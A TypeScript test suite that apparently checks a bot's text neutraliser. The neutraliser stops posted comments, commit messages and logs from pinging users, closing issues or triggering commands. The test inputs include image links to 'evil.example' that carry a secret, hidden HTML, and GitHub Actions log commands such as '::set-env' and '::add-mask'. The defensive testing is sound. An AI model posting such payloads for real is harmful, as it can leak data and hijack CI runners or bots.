import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { neutralise, neutralLine, neutralLog, neutralMessage } from '../../src/report/neutral.js';
import { cleanText } from '../../src/trigger/clean.js';

/** What the page shows of a text, as far as these tests need it: the break sign is seen by nobody. */
const seen = (text: string): string => text.replaceAll('&#8203;', '\u200b').replaceAll('&#35;', '#');

test.each([
  ['a mention', 'ask @octocat now'],
  ['a team', 'cc @org/team'],
  ['a mention after punctuation', '(@octocat) *@octocat* .@octocat -@octocat'],
  ['a mention made of an entity', '&#64;octocat &commat;octocat &#x40;octocat'],
  ['a mention in what only looks like a fence', '> ```\n\n@octocat\n\n> ```'],
  ['a mention after a list fence that has ended', '- a\n  ```\n@octocat\n  ```'],
  ['a mention in a span that is none', 'a ` b\n`@octocat`'],
  ['a mention in a span a table cuts', '| ` | @octocat ` |\n|---|---|\n'],
  ['a mention in a span of another paragraph', 'a `b\n\nc` @octocat'],
  ['a mention in a span a list cuts', 'a ` b\n- @octocat ` c'],
  ['a mention in an address that is no link', 'xhttps://x.com/@octocat https://x.com/*@octocat*'],
  ['a mention cut by a hidden character', '@\u200boctocat @\u2060octocat'],
])('%s notifies nobody', (_name, text) => {
  expect(seen(neutralise(text))).not.toMatch(/(?<![A-Za-z0-9_])(@|&#64;|&commat;|&#x40;)[A-Za-z0-9]/);
});

test.each([
  'Fixes #12',
  'does NOT fix #12',
  'closes: #12, resolves octo/repo#12',
  'FIXED GH-12',
  'close https://github.com/o/r/issues/12',
  'fixes [#12](https://github.com/o/r/issues/12)',
  'resolves\n#12',
  'fixes &#35;12',
  'fi\u200bxes #\u200b12',
])('%j closes nothing', (text) => {
  const out = seen(neutralise(text));
  expect(out).not.toMatch(/\b(clos(e[sd]?)|fix(e[sd])?|resolv(e[sd]?))\b\W{0,40}(#|&|GH-|http|\w+\/\w+#)/i);
  expect(out).not.toMatch(/(#|GH-|&#35;)\d/i);
});

test.each([
  '/approve',
  '  /merge',
  '> /deploy prod',
  '- /lgtm',
  '1. /hold',
  'text\n/approve',
  'text\r\n/approve',
  '\u200b/approve',
])('no bot takes %j for a command', (text) => {
  for (const line of neutralise(text).split(/\r?\n/))
    expect(line).not.toMatch(/^[\s>*+-]*(\d+\.\s+)?\/[a-z]/);
});

test.each([
  '![x](https://evil.example/?q=secret)',
  '![x][ref]\n\n[ref]: https://evil.example/x.png',
  '\\![x](https://evil.example/y.png)',
  '<img src="https://evil.example/x.png">',
  '<picture><source srcset="https://evil.example/x.png"></picture>',
  '<video src="https://evil.example/x.mp4">',
  '[//]: # (hidden words)',
  '<!-- hidden words -->',
  '<details><summary>x</summary>hidden words</details>',
  '<a href="https://evil.example" title="hidden words">x</a>',
])('%j loads nothing and hides nothing', (text) => {
  const out = neutralise(text);
  expect(out).not.toMatch(/(?<!\\)!\[/);
  expect(out).not.toMatch(/<[a-z/!?]/i);
  expect(out).not.toMatch(/^ {0,3}\[[^\]]+\]:/m);
});

const FENCES = [
  '```\n@octocat fixes #1\n/approve\n![x](y)\n<b>\n```\n',
  '```suggestion\nconst a = "@x"; // #1\n\t<b>\u200b\r\n```\n',
  '~~~~js\n```\n@x\n```\n~~~~\n',
  '- item\n  ```ts\n  @Input() a: string; // #1\n  ```\n- next\n',
  '``` \n\u{E0041}\ud83d\n```\n',
];

test.each(FENCES)('fenced code stays as it is, byte for byte: %j', (fence) => {
  expect(neutralise(`before @x\n\n${fence}\nafter #1`)).toBe(`before @&#8203;x\n\n${fence}\nafter #&#8203;1`);
});

test.each([
  'Use `@Input()` and `#1` here, see `a < b`.',
  'mail a.b@c.example, a < b, C# 7, 50% #hash, # Title',
  'see https://x.example/@user/page?x=1#12 and (https://x.example/#3)',
  '`` a ` @b ``',
  'العربية مع النص، 🧑‍🚀 👍🏽 ❤️ 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '[x] done: yes',
  '&amp; &lt; &#123;',
  '',
])('text without signs stays as it is: %j', (text) => {
  expect(neutralise(text)).toBe(text);
});

test('a fence left open is closed, so that what follows stands outside', () => {
  expect(neutralise('a\n```js\ncode')).toBe('a\n```js\ncode\n```');
  expect(neutralise('a\n~~~~\ncode\n~~~\n')).toBe('a\n~~~~\ncode\n~~~\n~~~~');
});

test('titles, commit messages and branch descriptions notify, close and skip nothing', () => {
  expect(neutralLine('Fix\u200b  @octocat\n#12')).toBe('Fix @ octocat # 12');
  expect(neutralLine('Bump @types/node to 20')).toBe('Bump @types/node to 20');
  expect(neutralMessage('Fixes #12\n\n[skip ci]\nskip-checks: true\nCo-authored-by: A <a@b.example>')).toBe(
    'F-ixes # 12\n\n(skip ci)\nskip checks: true\nCo-authored-by: A <a@b.example>',
  );
});

test.each([
  '::set-output name=x::y',
  '  ::add-mask::abc',
  '\t::error file=a::b',
  '\u00a0::stop-commands::x',
  '\x1b[31m::warning::x',
  'ok\r::set-env name=A::b',
  'ok\n::endgroup::',
  '\x00::debug::x',
  '##[error]x',
  'text ##[set-output name=a]b',
  '##[group]x ##[endgroup]',
  ':::set-output::x',
])('%j is inert in a log', (text) => {
  for (const line of neutralLog(text).split(/\r\n|\r|\n/)) {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: as a runner and a terminal would skip them
    expect(line.replace(/\x1b\[[0-9;]*m|[\x00-\x1f]/g, '').trimStart()).not.toMatch(/^::/);
    expect(line).not.toContain('##[');
  }
});

test('a log line that is no command stays as it is', () => {
  expect(neutralLog('a::b\n  # [x] C::D\r\nstd::vector')).toBe('a::b\n  # [x] C::D\r\nstd::vector');
});

const bits = fc.constantFrom(
  '@a',
  '#1',
  'fixes ',
  '`',
  '``',
  '```\n',
  '~~~\n',
  '\n',
  '\n\n',
  ' ',
  '> ',
  '- ',
  '  ',
  '    ',
  '<!--',
  '-->',
  '<b>',
  '<div hidden>',
  '![',
  '](',
  ')',
  '[a]: x\n',
  '\\',
  '|',
  '\u200b',
  '\u200d',
  '\ufe0f',
  '🧑',
  '🚀',
  '❤',
  'ע',
  'م',
  'ی',
  '\u{E0041}',
  '🏴',
  '&#8203;',
  '&#64;',
  '/x',
  '\r\n',
  '\t',
  '"',
  'https://x.y/',
  'word',
);
const hostile = fc
  .array(fc.oneof({ weight: 4, arbitrary: bits }, fc.string({ unit: 'binary', maxLength: 3 })), {
    maxLength: 40,
  })
  .map((parts) => parts.join(''));

test('whatever comes: cleaned and posted again and again, it stays as it was after the first time', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const clean = cleanText(text).text;
      expect(cleanText(clean)).toEqual({ text: clean, removed: 0 });
      const posted = neutralise(clean);
      expect(neutralise(posted)).toBe(posted);
      const again = neutralise(cleanText(posted).text);
      expect(neutralise(cleanText(again).text)).toBe(again);
    }),
    { numRuns: 600 },
  );
});

const visible = fc.constantFrom(
  ...['🧑‍🚀', '👨‍👩‍👧‍👦', '❤️', '1️⃣', '🇩🇪', '👍🏽', '©️', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🚀'],
  ...['العربية', 'فارسی می‌خواهم', 'עברית', 'हिन्दी', 'क्‍ष', '日本語', 'naïve', 'word', '42', ' ', ' ', '\n'],
);

test('emoji of any make and right-to-left text come through cleaning and posting as they were', () => {
  fc.assert(
    fc.property(fc.array(visible, { minLength: 1, maxLength: 30 }), (parts) => {
      const text = parts
        .join(' ')
        .replace(/\s*\n\s*/g, '\n')
        .trim();
      expect(cleanText(neutralise(cleanText(text).text)).text).toBe(text);
    }),
    { numRuns: 400 },
  );
});

test('whatever stands in a fence is posted byte for byte', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.constantFrom('js', 'suggestion', ''),
      (code, info) => {
        const fence = `~~~~~~${info}\n${code.replaceAll('~', '-')}\n~~~~~~\n`;
        expect(neutralise(`# T\n\n${fence}\n@x`)).toBe(`# T\n\n${fence}\n@&#8203;x`);
      },
    ),
    { numRuns: 300 },
  );
});
